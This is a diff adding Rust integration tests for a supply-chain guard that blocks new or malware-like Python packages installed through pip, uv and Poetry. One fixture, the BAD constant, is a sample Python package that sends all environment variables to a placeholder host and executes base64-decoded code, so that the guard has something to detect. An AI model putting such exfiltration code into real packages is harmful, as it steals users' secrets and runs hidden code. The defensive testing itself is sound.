@@ -1,0 +1,331 @@
+//! `hognose guard` before real installers: an old pip and a new one, uv, Poetry.
+
+#![expect(
+    clippy::unwrap_used,
+    clippy::panic,
+    reason = "a test stops at the first surprise"
+)]
+
+#[path = "inspect/archives.rs"]
+#[expect(dead_code, reason = "a part is used")]
+mod archives;
+mod common;
+
+use std::path::PathBuf;
+
+use common::upstream::Upstream;
+use common::{Outcome, Sandbox, root};
+
+const OLD: &str = "data-upload-time=\"2024-01-02T03:04:05Z\"";
+const YOUNG: &str = "data-upload-time=\"2026-11-17T11:00:00Z\"";
+
+/// The folder with environments of installers, which `cargo xtask test` makes.
+fn installers() -> PathBuf {
+    match std::env::var_os("HOGNOSE_TEST_INSTALLERS") {
+        Some(folder) => PathBuf::from(folder),
+        None => panic!(
+            "HOGNOSE_TEST_INSTALLERS is not set: run `cargo xtask test`, which installs pip, uv and Poetry"
+        ),
+    }
+}
+
+struct Set {
+    sandbox: Sandbox,
+    upstream: Upstream,
+}
+
+fn wheel(name: &str, version: &str, text: &str) -> Vec<u8> {
+    archives::wheel(
+        name,
+        version,
+        &[(&format!("{name}.py"), text.to_owned())],
+        "",
+    )
+}
+
+/// A shape, not a weapon: nobody has the host it names.
+const BAD: &str = "import os, json, base64, urllib.request\nurllib.request.urlopen('http://example.invalid/c', data=base64.b64encode(json.dumps(dict(os.environ)).encode()))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+
+impl Set {
+    fn new() -> Self {
+        let upstream = Upstream::new();
+        let (old, young) = (
+            wheel("good", "1.0", "X = 1\n"),
+            wheel("good", "2.0", "X = 2\n"),
+        );
+        upstream.project(
+            "good",
+            &[
+                ("good-1.0-py3-none-any.whl", &old, OLD),
+                ("good-2.0-py3-none-any.whl", &young, YOUNG),
+            ],
+        );
+        let bad = wheel("bad", "1.0", BAD);
+        upstream.project("bad", &[("bad-1.0-py3-none-any.whl", &bad, OLD)]);
+        Self {
+            sandbox: Sandbox::new(),
+            upstream,
+        }
+    }
+
+    /// Runs an installer behind the guard.
+    fn guard(&self, flags: &[&str], command: &[&str]) -> Outcome {
+        let feed = root().join("examples/feeds");
+        let mut all = vec!["guard", "--feed", feed.to_str().unwrap()];
+        all.extend(flags);
+        all.push("--");
+        all.extend(command);
+        let output = self
+            .sandbox
+            .command(&all)
+            .env_remove("PIP_NO_INDEX")
+            .env("PIP_INDEX_URL", self.upstream.url())
+            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
+            .env("VIRTUAL_ENV", self.sandbox.work())
+            .output()
+            .unwrap();
+        Outcome {
+            code: output.status.code().unwrap_or(-1),
+            stdout: self.sandbox.clean(&output.stdout),
+            stderr: self.sandbox.clean(&output.stderr),
+        }
+    }
+
+    fn pip(&self, which: &str, words: &[&str]) -> Outcome {
+        let python = installers().join(which).join("bin/python");
+        let target = self.sandbox.work().join("installed");
+        let mut command = vec![python.to_str().unwrap(), "-m", "pip", "install", "--target"];
+        command.push(target.to_str().unwrap());
+        command.extend(words);
+        self.guard(&[], &command)
+    }
+
+    fn uv(&self, words: &[&str]) -> Outcome {
+        let uv = installers().join("new/bin/uv");
+        let python = installers().join("new/bin/python");
+        let target = self.sandbox.work().join("installed");
+        let mut command = vec![uv.to_str().unwrap(), "pip", "install", "--python"];
+        command.extend([
+            python.to_str().unwrap(),
+            "--target",
+            target.to_str().unwrap(),
+        ]);
+        command.extend(words);
+        self.guard(&[], &command)
+    }
+
+    fn has(&self, what: &str) -> bool {
+        self.sandbox.work().join("installed").join(what).exists()
+    }
+}
+
+/// The words of the guard, without those of the installer.
+fn words(outcome: &Outcome) -> String {
+    let start = outcome
+        .stderr
+        .find("guard: ")
+        .unwrap_or(outcome.stderr.len());
+    outcome.stderr[start..].to_owned()
+}
+
+const WITHHELD: &str = "guard: 1 withheld\n  good 2.0, got 1.0: HOG-STATUS-new: ";
+
+#[test]
+fn an_unpinned_requirement_gets_the_newest_version_that_is_allowed() {
+    for which in ["old", "new", "uv"] {
+        let set = Set::new();
+        let got = match which {
+            "uv" => set.uv(&["good"]),
+            which => set.pip(which, &["good"]),
+        };
+        assert_eq!(got.code, 0, "{which}: {}", got.whole());
+        assert!(set.has("good-1.0.dist-info"), "{which}");
+        assert!(
+            words(&got).starts_with(WITHHELD),
+            "{which}: {}",
+            words(&got)
+        );
+    }
+}
+
+#[test]
+fn a_pinned_version_that_is_withheld_says_why() {
+    for which in ["old", "new", "uv"] {
+        let set = Set::new();
+        let got = match which {
+            "uv" => set.uv(&["good==2.0"]),
+            which => set.pip(which, &["good==2.0"]),
+        };
+        assert_ne!(got.code, 0, "{which}");
+        // The installer itself shows the reason.
+        let own = got.stderr.split("guard: ").next().unwrap();
+        assert!(
+            own.contains("Withheld by policy") && own.contains("HOG-STATUS-new"),
+            "{which}: {own}"
+        );
+        assert!(
+            words(&got)
+                .starts_with("guard: 1 refused\n  good-2.0-py3-none-any.whl: HOG-STATUS-new"),
+            "{which}: {}",
+            words(&got)
+        );
+        assert!(!set.has("good.py"));
+    }
+}
+
+#[test]
+fn what_behaves_like_malware_is_not_installed() {
+    for which in ["old", "new", "uv"] {
+        let set = Set::new();
+        let got = match which {
+            "uv" => set.uv(&["bad"]),
+            which => set.pip(which, &["bad"]),
+        };
+        assert_ne!(got.code, 0, "{which}: {}", got.whole());
+        let own = got.stderr.split("guard: ").next().unwrap();
+        assert!(own.contains("HOG-MAL-"), "{which}: {own}");
+        assert!(!set.has("bad.py"));
+    }
+}
+
+#[test]
+fn indexes_in_arguments_are_watched_too() {
+    let set = Set::new();
+    let other = Upstream::new();
+    let bad = wheel("bad", "1.0", BAD);
+    other.project("bad", &[("bad-1.0-py3-none-any.whl", &bad, OLD)]);
+    let url = other.url();
+    let got = set.pip("new", &["--index-url", &url, "bad"]);
+    assert_ne!(got.code, 0, "{}", got.whole());
+    assert!(
+        words(&got).contains("bad-1.0-py3-none-any.whl: HOG-MAL-"),
+        "{}",
+        words(&got)
+    );
+    assert!(other.seen().contains(&"/simple/bad/".to_owned()));
+    let refused = set.pip(
+        "new",
+        &["--find-links", "https://example.invalid/links", "good"],
+    );
+    assert_eq!(refused.code, 2, "{}", refused.whole());
+    assert!(
+        refused.stderr.contains("cannot stand before"),
+        "{}",
+        refused.stderr
+    );
+}
+
+#[test]
+fn locks_are_judged_before_the_command_starts() {
+    let set = Set::new();
+    let poetry = installers().join("new/bin/poetry");
+    let poetry = poetry.to_str().unwrap();
+    // Poetry takes its index from its own files: it is said in plain words what cannot be stood before.
+    let got = set.guard(&[], &[poetry, "lock"]);
+    assert_eq!(got.code, 2, "{}", got.whole());
+    assert!(
+        got.stderr.contains("Poetry takes its index"),
+        "{}",
+        got.stderr
+    );
+    let lock = |name: &str, bytes: &[u8]| {
+        format!(
+            "[[package]]\nname = \"{name}\"\nversion = \"1.0\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = [{{file = \"{name}-1.0-py3-none-any.whl\", hash = \"sha256:{}\"}}]\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n",
+            common::upstream::hex(bytes)
+        )
+    };
+    set.sandbox
+        .write("poetry.lock", lock("bad", &wheel("bad", "1.0", BAD)));
+    let got = set.guard(&[], &[poetry, "install"]);
+    assert_eq!(got.code, 1, "{}", got.whole());
+    assert!(
+        got.stderr.contains("block  bad 1.0: HOG-MAL-"),
+        "{}",
+        got.stderr
+    );
+    assert!(got.stderr.contains("was not started"), "{}", got.stderr);
+    // Bytes of another digest than the lock's are not what is judged.
+    set.sandbox.write("poetry.lock", lock("good", b"other"));
+    let got = set.guard(&[], &[poetry, "install"]);
+    assert_eq!(got.code, 3, "{}", got.whole());
+    set.sandbox.write(
+        "poetry.lock",
+        lock("good", &wheel("good", "1.0", "X = 1\n")),
+    );
+    let got = set.guard(&[], &["sh", "-c", "exit 0"]);
+    assert_eq!(got.code, 0);
+}
+
+#[test]
+fn locks_are_judged_without_a_command() {
+    let set = Set::new();
+    set.sandbox
+        .write("requirements.txt", "good==1.0\nbad==1.0\ngood==2.0\n");
+    let feed = root().join("examples/feeds");
+    let check = |more: &[&str]| {
+        let mut all = vec!["gateway", "check", "--feed", feed.to_str().unwrap()];
+        all.extend(more);
+        let output = set
+            .sandbox
+            .command(&all)
+            .env_remove("PIP_NO_INDEX")
+            .env("PIP_INDEX_URL", set.upstream.url())
+            .env("VIRTUAL_ENV", set.sandbox.work())
+            .output()
+            .unwrap();
+        (
+            output.status.code().unwrap(),
+            set.sandbox.clean(&output.stdout),
+        )
+    };
+    let (code, text) = check(&["requirements.txt"]);
+    assert_eq!(code, 1, "{text}");
+    assert!(text.contains("block  bad 1.0: HOG-MAL-"), "{text}");
+    assert!(text.contains("block  good 2.0: HOG-STATUS-new"), "{text}");
+    set.sandbox.write("fine.txt", "good==1.0\n");
+    assert_eq!(check(&["fine.txt"]).0, 0);
+    set.sandbox.write("open.txt", "good>=1.0\nnobody==1.0\n");
+    let (code, text) = check(&["open.txt"]);
+    assert_eq!(code, 3, "{text}");
+    assert!(text.contains("good is not pinned"), "{text}");
+}
+
+#[test]
+fn the_command_decides_the_exit_code() {
+    let set = Set::new();
+    let got = set.guard(&["--quiet"], &["sh", "-c", "exit 7"]);
+    assert_eq!((got.code, got.stderr.as_str()), (7, ""));
+    let got = set.guard(&[], &["sh", "-c", "exit 0"]);
+    assert_eq!(got.code, 0);
+    assert!(got.stderr.contains("asked the gateway"), "{}", got.stderr);
+    let missing = set.guard(&[], &["no-such-program-of-anybody"]);
+    assert_eq!(missing.code, 2, "{}", missing.whole());
+}
+
+#[test]
+fn observing_refuses_nothing() {
+    let set = Set::new();
+    let python = installers().join("new/bin/python");
+    let target = set.sandbox.work().join("installed");
+    let command = [
+        python.to_str().unwrap(),
+        "-m",
+        "pip",
+        "install",
+        "--target",
+        target.to_str().unwrap(),
+        "good==2.0",
+    ];
+    let got = set.guard(&["--observe"], &command);
+    assert_eq!(got.code, 0, "{}", got.whole());
+    assert!(set.has("good-2.0.dist-info"));
+    assert!(words(&got).contains("would be"), "{}", words(&got));
+}
+
+#[test]
+fn only_who_knows_the_path_is_answered() {
+    let set = Set::new();
+    let script = "url=$PIP_INDEX_URL; base=${url%%/simple/}; host=${base%/*}; python3 - \"$url\" \"$host\" <<'END'\nimport sys, urllib.request, urllib.error\nprint(urllib.request.urlopen(sys.argv[1] + 'good/').status)\ntry:\n    print(urllib.request.urlopen(sys.argv[2] + '/simple/good/').status)\nexcept urllib.error.HTTPError as e:\n    print(e.code)\nEND";
+    let got = set.guard(&[], &["sh", "-c", script]);
+    assert_eq!(got.stdout, "200\n404\n", "{}", got.whole());
+}
